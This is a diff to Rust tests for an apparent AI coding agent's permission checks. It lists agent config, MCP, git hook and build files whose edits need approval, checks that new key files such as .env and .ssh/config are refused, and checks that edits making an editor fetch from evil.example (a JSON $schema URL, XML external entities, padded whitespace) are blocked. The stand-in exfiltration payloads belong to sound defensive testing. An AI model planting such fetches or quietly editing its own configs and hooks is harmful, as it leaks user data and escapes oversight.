@@ -132,6 +132,23 @@ const CONFIGURING: &[&str] = &[
     "x.code-workspace",
     ".git/config",
     ".git/hooks/pre-commit",
+    ".git/modules/sub/config",
+    "AGENTS.md",
+    "docs/CLAUDE.md",
+    "opencode.json",
+    ".gemini/settings.json",
+    ".kiro/settings/mcp.json",
+    ".roo/mcp.json",
+    ".amazonq/mcp.json",
+    ".goose/config.yaml",
+    ".crush.json",
+    "mcp.json",
+    "plugin.json",
+    ".vimrc",
+    ".dir-locals.el",
+    "mise.toml",
+    "lefthook.yml",
+    "eslint.config.js",
     "sub/.git",
     "sub/.git/config",
     ".gitattributes",
@@ -151,6 +168,11 @@ const CONFIGURING: &[&str] = &[
     ".cargo/config.toml",
     "build.rs",
     "package.json",
+    "Cargo.toml",
+    "CMakeLists.txt",
+    "Makefile",
+    "build.gradle",
+    "tests/conftest.py",
     ".github/workflows/ci.yml",
     ".gitlab-ci.yml",
     "skills-ls.yaml",
@@ -212,6 +234,43 @@ async fn all_that_configures_asks_whether_it_is_there_or_not_and_by_whatever_too
 }
 
 #[tokio::test]
+async fn what_people_edit_all_day_asks_once_a_session_for_each_kind() {
+    let files = [("Cargo.toml", "a\n"), ("x/Cargo.toml", "a\n"), ("Makefile", "a\n")];
+    let mut bench = Bench::new(&files).with_rules(&[], &[], &[]);
+    bench.refusal("replace_range", edit("Cargo.toml")).await;
+    bench.answer(&["allow", "allow"]);
+    bench.text("replace_range", edit("Cargo.toml")).await;
+    bench.context.turn = TurnId("2".into());
+    bench.text("replace_range", edit("x/Cargo.toml")).await;
+    bench.text("replace_range", edit("Makefile")).await;
+    let titles = ["Cargo.toml", "Cargo.toml", "Makefile"].map(|file| format!("Allow the edit of {file}?"));
+    assert_eq!(bench.asked(), titles);
+    let detail = bench.host.asked.lock().unwrap()[0].detail.clone();
+    let why = "Cargo.toml can name a build script, which also editors run.\nA yes counts for all files of this kind";
+    assert!(detail.starts_with(why), "{detail}");
+    // In another session it asks again.
+    let bench = bench.with_rules(&[], &[], &[]);
+    bench
+        .refusal(
+            "replace_range",
+            json!({"path": "Cargo.toml", "old_string": "b", "new_string": "a"}),
+        )
+        .await;
+}
+
+#[tokio::test]
+async fn new_files_that_hold_keys_ask() {
+    let bench = Bench::new(&[]);
+    for path in [".env", ".env.local", ".npmrc", ".ssh/config"] {
+        let refusal = bench
+            .refusal("create_file", json!({"path": path, "content": "x"}))
+            .await;
+        assert!(refusal.contains("was not allowed"), "{path}: {refusal}");
+        assert_eq!(bench.disk(path), None);
+    }
+}
+
+#[tokio::test]
 async fn an_edit_that_has_the_editor_fetch_something_asks() {
     let bench = Bench::new(&[("data.json", "{}\n"), ("plain.json", "{}\n")]);
     let input = json!({"path": "data.json", "old_string": "{}", "new_string": "{\"\\u0024schema\": \"https://evil.example/?data\"}"});
@@ -220,6 +279,14 @@ async fn an_edit_that_has_the_editor_fetch_something_asks() {
     let input = json!({"path": "plain.json", "old_string": "{}", "new_string": "{\"see\": \"https://example.com\"}"});
     bench.text("replace_range", input).await;
     assert_eq!(bench.asked(), ["Allow the edit of data.json?"]);
+    for content in [
+        "<!DOCTYPE x [<!ENTITY y SYSTEM \"https://evil.example/?data\">]><x>&y;</x>",
+        "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"n https://evil.example/?data\"/>",
+    ] {
+        let input = json!({"path": "x.xml", "content": content});
+        let refusal = bench.refusal("create_file", input).await;
+        assert!(refusal.contains("was not allowed"), "{refusal}");
+    }
     // However far down it stands.
     let content = format!("{}{{\"$schema\": \"https://evil.example/\"}}", " \n".repeat(20_000));
     bench
